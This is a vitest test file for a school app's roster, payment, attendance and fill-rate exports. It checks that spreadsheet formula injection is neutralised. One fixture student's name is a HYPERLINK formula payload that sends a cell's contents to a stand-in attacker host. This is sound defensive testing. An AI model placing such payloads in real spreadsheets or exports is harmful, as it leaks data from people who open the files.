import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { exportPath } from '@mergington/db';
import { useTestDatabase } from '@mergington/db/testing';
import { SESSION_COOKIE } from '../context.ts';
import { createTestStudent, createTestTeacher, startTestServer } from '../testing.ts';

const { orm } = await useTestDatabase();
const origin = await startTestServer(orm);
const sql = <T extends object>(text: string, params: unknown[] = []) =>
  orm.em.fork().execute<T[]>(text, params);
const teacher = await createTestTeacher(orm);
const asTeacher = { authorization: `Bearer ${teacher.token}` };

let n = 0;
async function student(name: string, grade = 10): Promise<{ id: number; email: string }> {
  const email = `export-${++n}@mergington.edu`;
  const [row] = await sql<{ id: number }>(
    `insert into student (email, name, grade) values (?, ?, ?) returning id`,
    [email, name, grade],
  );
  return { id: row!.id, email };
}
async function activity(name: string, seats: number): Promise<number> {
  const [row] = await sql<{ id: number }>(
    `insert into activity (name, max_participants) values (?, ?) returning id`,
    [name, seats],
  );
  return row!.id;
}
const join = (activityId: number, studentId: number, status: 'enrolled' | 'waitlisted') =>
  sql(`insert into activity_participant (activity_id, student_id, status) values (?, ?, ?)`, [
    activityId,
    studentId,
    status,
  ]);

const download = (path: string, headers: Record<string, string> = asTeacher) =>
  fetch(`${origin}${path}`, { headers });
const csvLines = async (response: Response) => (await response.text()).split('\r\n').filter(Boolean);

// A small school: one activity with two seats, a waitlist of three in signup order, and a hostile name.
const chess = await activity('Chess Club', 2);
const ada = await student('Ada Lovelace');
const zoe = await student('Zoë Ünal-Çelik', 11);
const evil = await student('=HYPERLINK("http://evil.example/?x="&A1,"click")', 12);
const waiting = [await student('Wendy Wait'), await student('Albert Later'), await student('Björn Last')];
await join(chess, ada.id, 'enrolled');
await join(chess, zoe.id, 'enrolled');
for (const w of waiting) await join(chess, w.id, 'waitlisted');
await join(await activity('Drama', 5), evil.id, 'enrolled');
const idle = await student('+Idle -Student', 9);

describe('exports', () => {
  it('a roster as CSV: UTF-8 with BOM, enrolled first, then the waitlist in signup order', async () => {
    const response = await download(exportPath('rosters', 'csv', { activityId: chess }));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="rosters-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const bytes = new Uint8Array(await response.clone().arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = await csvLines(response);
    expect(lines[0]).toBe('Activity,Status,Waitlist position,Student,Email,Grade,Signed up at');
    expect(lines.slice(1).map((line) => line.split(',').slice(0, 4).join(','))).toEqual([
      'Chess Club,enrolled,,Ada Lovelace',
      'Chess Club,enrolled,,Zoë Ünal-Çelik',
      'Chess Club,waitlisted,1,Wendy Wait',
      'Chess Club,waitlisted,2,Albert Later',
      'Chess Club,waitlisted,3,Björn Last',
    ]);
  });

  it('neutralises cells a spreadsheet would run as formulas', async () => {
    const lines = await csvLines(await download(exportPath('rosters', 'csv')));
    const hostile = lines.find((line) => line.includes('HYPERLINK'))!;
    // The cell starts with an apostrophe (text in every spreadsheet), quoted by CSV for its quotes and comma.
    expect(hostile).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    const noActivity = await csvLines(await download(exportPath('no-activity', 'csv', { grade: 9 })));
    expect(noActivity.slice(1).map((line) => line.split(',')[1])).toEqual(["'+Idle -Student"]);
    expect(noActivity[1]!.startsWith(`${idle.id},`)).toBe(true);
  });

  it('XLSX: names with accents round-trip, dates are real dates, the hostile cell is text', async () => {
    const response = await download(exportPath('rosters', 'xlsx'));
    expect(response.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    const sheet = workbook.worksheets[0]!;
    const rows = sheet.getSheetValues().filter(Boolean) as unknown[][];
    expect(rows[0]!.slice(1)).toEqual([
      'Activity',
      'Status',
      'Waitlist position',
      'Student',
      'Email',
      'Grade',
      'Signed up at',
    ]);
    const zoeRow = rows.find((row) => row[4] === 'Zoë Ünal-Çelik')!;
    expect(zoeRow).toBeDefined();
    expect(zoeRow[6]).toBe(11);
    const [{ signed_up }] = (await sql<{ signed_up: string }>(
      `select floor(extract(epoch from signup_date) * 1000)::bigint::text as signed_up from activity_participant where student_id = ?`,
      [zoe.id],
    )) as [{ signed_up: string }];
    expect(zoeRow[7]).toBeInstanceOf(Date);
    expect((zoeRow[7] as Date).getTime()).toBe(Number(signed_up));
    expect(sheet.getColumn(7).numFmt).toBe('yyyy-mm-dd hh:mm:ss');
    expect(rows.some((row) => row[4] === `'=HYPERLINK("http://evil.example/?x="&A1,"click")`)).toBe(true);
    expect(rows.filter((row) => row[2] === 'waitlisted').map((row) => [row[3], row[4]])).toEqual([
      [1, 'Wendy Wait'],
      [2, 'Albert Later'],
      [3, 'Björn Last'],
    ]);
  });

  it('payments by status and date range, with a total per status and an overall total', async () => {
    const drama = await activity('Payments Drama', 5);
    const pay = (studentId: number, cents: number, status: string, createdAt: string) =>
      sql(
        `insert into payment (student_id, activity_id, amount_cents, status, payment_date, created_at)
         values (?, ?, ?, ?, case when ? = 'paid' then now() end, ?)`,
        [studentId, drama, cents, status, status, createdAt],
      );
    await pay(ada.id, 1500, 'paid', '2026-03-01T10:00:00Z');
    await pay(zoe.id, 2550, 'paid', '2026-03-15T10:00:00Z');
    await pay(ada.id, 990, 'pending', '2026-03-20T10:00:00Z');
    await pay(zoe.id, 10000, 'paid', '2026-05-01T10:00:00Z'); // outside the range
    const march = { activityId: drama, from: '2026-03-01', to: '2026-03-31' };
    const lines = await csvLines(await download(exportPath('payments', 'csv', march)));
    const cells = lines.slice(1).map((line) => line.split(','));
    expect(cells.map((row) => [row[6], row[7]])).toEqual([
      ['paid', '15.00'],
      ['paid', '25.50'],
      ['pending', '9.90'],
      ['Total paid: 2 payments', '40.50'],
      ['Total pending: 1 payment', '9.90'],
      ['Total: 3 payments', '50.40'],
    ]);
    const paidOnly = await csvLines(
      await download(exportPath('payments', 'csv', { ...march, status: 'paid' })),
    );
    expect(paidOnly.at(-1)).toContain('Total: 2 payments,40.50');
  });

  it('fill rates per activity', async () => {
    const lines = await csvLines(await download(exportPath('fill-rates', 'csv')));
    expect(lines).toContain('Chess Club,,2,2,3,0,1');
  });

  it('attendance: each record of each meeting, on the school’s calendar, filtered by activity and days', async () => {
    // Meetings at 15:30 New York time on 2026-11-02 and 2026-11-09 (20:30 UTC).
    const meeting = async (startsAt: string) =>
      (
        await sql<{ id: number }>(
          `insert into meeting (activity_id, scheduled_on, starts_at, ends_at)
           values (?, ?::timestamptz::date, ?::timestamptz, ?::timestamptz + interval '1 hour') returning id`,
          [chess, startsAt, startsAt, startsAt],
        )
      )[0]!.id;
    const first = await meeting('2026-11-02T20:30:00Z');
    const second = await meeting('2026-11-09T20:30:00Z');
    const mark = (meetingId: number, studentId: number, status: string, note = '') =>
      sql(
        `insert into attendance (meeting_id, student_id, status, note, source) values (?, ?, ?, ?, 'roll_call')`,
        [meetingId, studentId, status, note],
      );
    await mark(first, ada.id, 'present');
    await mark(first, zoe.id, 'excused', 'Orthodontist');
    await mark(second, ada.id, 'absent');
    const all = (
      await csvLines(await download(exportPath('attendance', 'csv', { activityId: chess })))
    ).slice(1);
    expect(
      all.map((line) =>
        line
          .split(',')
          .filter((_, i) => [0, 1, 4, 6, 7].includes(i))
          .join(','),
      ),
    ).toEqual([
      'Chess Club,2026-11-02,Ada Lovelace,present,',
      'Chess Club,2026-11-02,Zoë Ünal-Çelik,excused,Orthodontist',
      'Chess Club,2026-11-09,Ada Lovelace,absent,',
    ]);
    const lastWeek = await csvLines(
      await download(
        exportPath('attendance', 'csv', { activityId: chess, from: '2026-11-09', to: '2026-11-09' }),
      ),
    );
    expect(lastWeek.slice(1)).toHaveLength(1);
  });

  it('is for staff only: signed in by Bearer token or the session cookie', async () => {
    const path = exportPath('rosters', 'csv');
    expect((await download(path, {})).status).toBe(401);
    const pupil = await createTestStudent(orm);
    expect((await download(path, { authorization: `Bearer ${pupil.token}` })).status).toBe(403);
    expect((await download(path, { cookie: `${SESSION_COOKIE}=${teacher.token}` })).status).toBe(200);
  });

  it('refuses unknown reports, formats and filters with a 400 naming the field', async () => {
    const bad = async (path: string) => {
      const response = await download(path);
      return {
        status: response.status,
        body: (await response.json()) as { fieldErrors?: Record<string, string[]> },
      };
    };
    expect((await bad('/export/secrets.csv')).status).toBe(400);
    expect((await bad('/export/rosters.pdf')).body.fieldErrors).toHaveProperty('format');
    expect((await bad('/export/rosters.csv?activityId=abc')).body.fieldErrors).toHaveProperty('activityId');
    expect((await bad('/export/rosters.csv?grade=10')).body.fieldErrors).toHaveProperty('grade');
    expect((await bad('/export/payments.csv?from=2026-04-01&to=2026-03-01')).body.fieldErrors).toHaveProperty(
      'to',
    );
    expect((await fetch(`${origin}/export/rosters.csv`, { method: 'POST', headers: asTeacher })).status).toBe(
      405,
    );
  });
});
